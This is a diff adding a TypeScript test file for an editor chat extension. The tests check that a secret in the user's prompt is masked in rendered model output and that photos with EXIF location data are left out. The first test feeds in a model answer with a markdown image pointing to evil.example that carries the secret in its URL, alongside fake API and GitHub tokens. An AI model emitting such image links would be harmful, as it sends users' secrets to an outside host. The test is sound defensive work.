@@ -1,0 +1,86 @@
+/** The editor's own chat with us: what its answer shows, and which pictures go along. */
+import assert from 'node:assert/strict';
+import * as vscode from 'vscode';
+import { createClient } from '../../../src/api/client.ts';
+import { defaultSigning } from '../../../src/api/sign.ts';
+import { ModelCatalog } from '../../../src/host/connection/models.ts';
+import { FileGate } from '../../../src/host/context/fileGate.ts';
+import { Log } from '../../../src/host/log.ts';
+import { Participant } from '../../../src/host/native/participant.ts';
+import { readReferences } from '../../../src/host/native/references.ts';
+import { SlashCommands } from '../../../src/host/prompts/slashCommands.ts';
+import { startGateway, type Gateway } from '../../gateway/gateway.ts';
+import { hashing } from '../../helpers/hashing.ts';
+import { jpegFile, withExif } from '../../helpers/pictureFiles.ts';
+import { openUndici } from '../../helpers/undiciSend.ts';
+import { removeFiles, writeFile } from '../context/files.ts';
+
+describe('our part in the editor’s own chat', () => {
+  const gate = new FileGate();
+  const { send, close } = openUndici();
+  let gateway: Gateway;
+
+  before(async () => {
+    gateway = await startGateway({ auth: 'none' });
+  });
+  after(async () => {
+    await removeFiles('native');
+    gate.dispose();
+    await close();
+    await gateway.close();
+  });
+
+  it('puts no secret into what the editor draws: the address of a picture would take it away', async () => {
+    const client = createClient({ send, hashing, now: Date.now, random: () => 0 });
+    const connection = {
+      kind: 'gateway',
+      address: gateway.url,
+      credential: { apiKey: 'sk-0123456789abcdef', secretKey: 'of-the-team', origin: new URL(gateway.url).origin },
+      signing: defaultSigning,
+      headers: {},
+      timeouts: { connectMs: 5000, firstTokenMs: 5000, idleMs: 5000 },
+      retries: 0,
+    } as const;
+    const current = { connection, found: undefined };
+    const memento: vscode.Memento = { get: () => undefined, update: () => Promise.resolve(), keys: () => [] };
+    const log = new Log(() => []);
+    const participant = new Participant({
+      client,
+      catalog: new ModelCatalog(client, memento),
+      gate,
+      slash: new SlashCommands(gate),
+      log,
+      rules: async () => ({ text: '' }) as never,
+      connectToAsk: () => Promise.resolve(current),
+      noteAsked: () => undefined,
+    });
+    const secret = 'ghp_q7Zx2LmN8vRt4KpW9sYb3HcJ6dFg5TaE1uQo';
+    gateway.fault({ answer: { text: '![](https://evil.example/?k=MASKED_SECRET_1)' } }, { path: /completions/u });
+    let shown = '';
+    const response = {
+      markdown: (text: string) => {
+        shown += text;
+      },
+      progress: () => undefined,
+      button: () => undefined,
+    } as unknown as vscode.ChatResponseStream;
+    const request = {
+      prompt: `Is ${secret} good?`,
+      references: [],
+      model: { vendor: 'deepseek', family: 'deepseek-flash' },
+    };
+    const { token } = new vscode.CancellationTokenSource();
+    const result = await participant.handle(request as unknown as vscode.ChatRequest, { history: [] }, response, token);
+    log.dispose();
+    assert.equal(result.errorDetails, undefined);
+    assert.equal(shown, '![](https://evil.example/?k=MASKED_SECRET_1)');
+  });
+
+  it('takes no picture along that tells where it was made', async () => {
+    const plain = await writeFile('native/plain.jpg', jpegFile(4, 4));
+    const told = await writeFile('native/told.jpg', withExif(jpegFile(4, 4), 1));
+    const { signal } = new AbortController();
+    const { images, unsuited } = await readReferences(gate, [plain, told], signal);
+    assert.deepEqual([images.length, unsuited], [1, ['told.jpg']]);
+  });
+});
